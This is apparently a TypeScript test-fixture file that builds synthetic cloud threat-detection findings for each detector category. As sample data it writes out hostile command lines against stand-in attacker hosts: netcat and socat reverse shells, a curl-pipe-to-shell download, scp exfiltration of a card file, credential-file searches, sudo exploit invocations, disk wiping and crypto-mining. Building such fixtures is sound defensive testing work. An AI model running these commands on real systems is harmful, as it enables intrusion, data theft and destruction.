import { ATTACKER, constructedFinding, file, notification, process, SHA256, type Json } from './constructed';

const SHELL = process('/bin/bash', ['bash', '-i']);
const dropped = (path: string, ...args: readonly string[]): Json => ({
  processes: [process(path, [path, ...args], { binary: file(path) })],
});
const ran = (path: string, ...args: readonly string[]): Json => ({
  processes: [process(path, [path, ...args])],
});
const library = (path: string): Json => ({
  processes: [process('/usr/bin/node', ['node', 'server.js'], { libraries: [file(path)] })],
});
const script = (path: string, interpreter: string, contents: string): Json => ({
  processes: [
    process(interpreter, [interpreter, path], {
      script: { path, contents, size: '210', hashedSize: '210', sha256: SHA256 },
    }),
  ],
});
const connectedTo = (ip: string, port: number): Json => ({
  connections: [
    {
      destinationIp: ip,
      destinationPort: port,
      sourceIp: '169.254.8.130',
      sourcePort: 41_870,
      protocol: 'TCP',
    },
  ],
});

/** Event Threat Detection's details: whose call it was, and the entry that says so. */
const fromAudit = (methodName: string, principalEmail: string): Json => ({
  parentDisplayName: 'Event Threat Detection',
  access: {
    principalEmail,
    callerIp: ATTACKER,
    callerIpGeo: { regionCode: 'NL' },
    userAgent: 'google-cloud-sdk',
    serviceName: 'run.googleapis.com',
    methodName,
  },
  sourceProperties: {
    detectionCategory: { ruleName: 'cloud_run_rule', technique: 'other', indicator: 'audit_log' },
    affectedResources: [{ gcpResourceName: '//cloudresourcemanager.googleapis.com/projects/415104041262' }],
    evidence: [
      {
        sourceLogId: {
          projectId: 'acme-payments',
          resourceContainer: 'projects/acme-payments',
          timestamp: { seconds: '1795609860', nanos: 5e8 },
          insertId: '-s2k9xde1mww',
        },
      },
    ],
  },
});

/** The particulars of each detector's finding. */
const DETECTORS: Readonly<Record<string, Json>> = {
  'Reverse Shell': {
    processes: [SHELL, process('/usr/local/bin/node', ['node', 'server.js'], { pid: '1', parentPid: '0' })],
    sourceProperties: {
      Reverse_Shell_Stdin_Redirection_Dst_Ip: ATTACKER,
      Reverse_Shell_Stdin_Redirection_Dst_Port: 4444,
      Reverse_Shell_Stdin_Redirection_Src_Ip: '169.254.8.130',
      Reverse_Shell_Stdin_Redirection_Src_Port: 53_488,
      Container_Image_Uri: 'europe-docker.pkg.dev/acme-payments/app/payment-api:7',
    },
  },
  'Unexpected Child Shell': {
    processes: [process('/bin/sh', ['sh', '-c', 'id']), process('/usr/sbin/nginx', ['nginx'])],
  },
  'Execution: Socat Reverse Shell Detected': ran('/usr/bin/socat', `TCP:${ATTACKER}:9001`, 'EXEC:/bin/sh'),
  'Execution: Netcat Remote Code Execution in Container': ran('/bin/nc', ATTACKER, '4444', '-e', '/bin/sh'),
  'Execution: Possible Remote Command Execution Detected': {
    ...ran('/bin/sh', '-c', 'id > /tmp/o'),
    ...connectedTo(ATTACKER, 443),
  },
  'Execution: Possible Arbitrary Command Execution through CUPS (CVE-2024-47076)': {
    ...ran('/usr/lib/cups/filter/foomatic-rip'),
    ...connectedTo(ATTACKER, 631),
  },
  'Execution: Added Malicious Binary Executed': dropped('/tmp/.k/kdevtmpfsi'),
  'Execution: Built in Malicious Binary Executed': dropped('/usr/local/bin/helper'),
  'Execution: Modified Malicious Binary Executed': dropped('/usr/bin/curl'),
  'Execution: Fileless Execution in /memfd:': ran('/memfd:', '--daemon'),
  'Execution: Added Malicious Library Loaded': library('/tmp/.k/libprocesshider.so'),
  'Execution: Modified Malicious Library Loaded': library('/lib/x86_64-linux-gnu/libc.so.6'),
  'Execution: Suspicious OpenSSL Shared Object Loaded': ran(
    '/usr/bin/openssl',
    'req',
    '-engine',
    '/tmp/e.so',
  ),
  'Malicious URL Observed': {
    ...ran('/usr/bin/curl', 'http://u:p@malware.example/k.sh?id=7'),
    indicator: { uris: ['http://u:p@malware.example/k.sh?id=7'] },
  },
  'Execution: Malicious Python executed': script(
    '/tmp/a.py',
    '/usr/bin/python3',
    `import socket\ns.connect(("${ATTACKER}",9))`,
  ),
  'Malicious Script Executed': script('/tmp/a.sh', '/bin/bash', 'curl -s http://drop.example/x | sh'),
  'Defense Evasion: Base64 ELF File Command Line': ran('/usr/bin/base64', '-d', 'f0VMRgIB'),
  'Defense Evasion: Base64 Encoded Python Script Executed': ran('/usr/bin/python3', '-c', 'aW1wb3J0IG9z'),
  'Defense Evasion: Base64 Encoded Shell Script Executed': ran('/bin/sh', '-c', 'IyEvYmluL3No'),
  'Credential Access: Find Google Cloud Credentials': ran(
    '/usr/bin/find',
    '/',
    '-name',
    'application_default_credentials.json',
  ),
  'Credential Access: GPG Key Reconnaissance': ran('/usr/bin/find', '/', '-name', 'secring.gpg'),
  'Credential Access: Search Private Keys or Passwords': ran('/bin/grep', '-r', 'BEGIN RSA PRIVATE KEY', '/'),
  'Execution: Kubernetes Attack Tool Execution': dropped('/tmp/kubesploit'),
  'Execution: Local Reconnaissance Tool Execution': dropped('/tmp/linpeas'),
  'Command and Control: Steganography Tool Detected': dropped('/usr/bin/steghide', 'embed'),
  'Defense Evasion: Launch Code Compiler Tool In Container': ran('/usr/bin/gcc', '/tmp/x.c', '-o', '/tmp/x'),
  'Execution: Program Run with Disallowed HTTP Proxy Env': {
    processes: [
      process('/usr/bin/wget', ['wget'], {
        envVariables: [{ name: 'HTTP_PROXY', val: `http://${ATTACKER}:3128` }],
      }),
    ],
  },
  'Exfiltration: Launch Remote File Copy Tools in Container': {
    ...ran('/usr/bin/scp', '/data/cards.csv', `x@${ATTACKER}:/in`),
    ...connectedTo(ATTACKER, 22),
  },
  'Execution: Container Escape': ran('/usr/bin/nsenter', '--target', '1'),
  'Privilege Escalation: Abuse of Sudo For Privilege Escalation (CVE-2019-14287)': ran(
    '/usr/bin/sudo',
    '-u#-1',
    'id',
  ),
  'Privilege Escalation: Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)':
    ran('/usr/bin/pkexec'),
  'Privilege Escalation: Sudo Potential Privilege Escalation (CVE-2021-3156)': ran(
    '/usr/bin/sudoedit',
    '-s',
    '\\',
  ),
  'Privilege Escalation: Fileless Execution in /dev/shm': ran('/dev/shm/x'),
  'Impact: Suspicious cryptocurrency mining activity using the Stratum Protocol': ran(
    '/tmp/xmrig',
    '-o',
    'stratum+tcp://pool.miner.example:3333',
  ),
  'Impact: Detect Malicious Cmdlines': ran('/bin/rm', '-rf', '--no-preserve-root', '/'),
  'Impact: Remove Bulk Data From Disk': ran('/usr/bin/shred', '-u', '/mnt/orders'),
  'Execution: Cryptomining Docker Image': {
    ...fromAudit('google.cloud.run.v2.Services.CreateService', 'ada@example.com'),
    containers: [{ name: 'app', uri: 'docker.io/miner/xmrig:latest' }],
  },
  'Impact: Cryptomining Commands': {
    ...fromAudit('google.cloud.run.v2.Jobs.RunJob', 'ada@example.com'),
    resourceName:
      '//run.googleapis.com/projects/acme-payments/locations/europe-west1/jobs/nightly/executions/nightly-x7k2p',
  },
  'Privilege Escalation: Default Compute Engine Service Account SetIAMPolicy': {
    ...fromAudit(
      'google.cloud.run.v1.Services.SetIamPolicy',
      '415104041262-compute@developer.gserviceaccount.com',
    ),
    severity: 'LOW',
    iamBindings: [{ action: 'ADD', role: 'roles/run.invoker', member: 'allUsers' }],
  },
};

/** One notification for each detector, by the name of its file. */
export const detectorFindings: Readonly<Record<string, Json>> = Object.fromEntries(
  Object.entries(DETECTORS).map(([category, more], index) => {
    const slug = category
      .toLowerCase()
      .replaceAll(/[^a-z0-9]+/g, '-')
      .replaceAll(/^-|-$/g, '');
    return [slug, notification(constructedFinding(`c0${String(index).padStart(4, '0')}`, category, more))];
  }),
);
